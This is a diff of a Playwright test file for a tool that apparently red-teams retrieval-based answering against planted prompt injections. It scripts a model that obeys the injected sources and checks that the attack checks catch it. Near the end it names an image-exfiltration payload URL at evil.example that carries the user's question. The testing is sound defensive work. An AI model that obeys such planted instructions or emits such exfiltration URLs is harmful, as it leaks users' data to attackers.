@@ -1,5 +1,6 @@
 import { test, expect } from './support/fixtures.ts';
 import { routeLlm, streamed, useRoutedEngine } from './support/llm-endpoint.ts';
+import { openAnswers, useAnsweringModel, useJudge } from './support/answer-scripts.ts';
 
 declare global {
 	interface Window {
@@ -72,14 +73,30 @@ test('every page loads without a Content-Security-Policy violation (zod runs wit
 	expect(consoleCsp).toEqual([]);
 });
 
-test('"Load injection suite" creates a workspace with the suite documents and its golden set', async ({ page }) => {
-	await page.goto('./');
-	await expect(page.getByTestId('index-status')).toContainText('7 documents');
-	await page.getByTestId('answers-link').click();
-	await expect(page.locator('main[data-ready="true"]')).toBeVisible();
+test('"Load injection suite" creates a workspace with its documents and golden set; a model that obeys them is caught by the attack checks', async ({ page }) => {
+	// The answering model repeats every source it is given (so it "obeys" each planted instruction); the judge scores 3.
+	await routeLlm(page, (route) => {
+		const body = route.request().postDataJSON() as { model: string; messages: { content: string }[] };
+		if (body.model === 'judge') return streamed(['{"score": 3, "reason": "scripted"}'])(route);
+		const user = body.messages.at(-1)!.content;
+		return streamed([...user.matchAll(/<source id="(\d+)" title="([^"]*)">\n([\s\S]*?)\n<\/source>/g)].map((m) => `${m[2]}: ${m[3]} [${m[1]}]\n`))(route);
+	});
+	await openAnswers(page);
 	await page.getByTestId('load-injection-suite').click();
 	await expect(page.getByTestId('answers-notice')).toContainText('Injection suite loaded: 13 documents and 13 cases');
 	await expect(page.getByTestId('answers-workspace').locator('option:checked')).toHaveText('Injection suite');
+	await useAnsweringModel(page, 'obedient');
+	await page.getByLabel('Run label').fill('obedient');
+	await page.getByTestId('answer-run-start').click();
+	await page.getByTestId('answers-notice').filter({ hasText: 'Answered 13 cases.' }).waitFor();
+	await useJudge(page);
+	await page.getByTestId('grade-run').click();
+	await page.getByTestId('answers-notice').filter({ hasText: 'Graded 13 answers.' }).waitFor();
+	// Hidden-text payloads may be dropped at ingest; every other case's attack gets through.
+	const rate = Number(await page.getByTestId('attack-success-rate').innerText());
+	expect(rate).toBeGreaterThanOrEqual(11 / 13 - 1e-3);
+	const image = page.locator('[data-testid="answer-row"][data-case="inj-05-image-exfiltration"]');
+	await expect(image.getByTestId('check').filter({ hasText: 'no-exfiltration-url' })).toContainText('https://evil.example/pixel.png?q=USER_QUESTION');
 });
 
 test('a file name with a right-to-left override is listed with the override as a visible escape', async ({ page }) => {
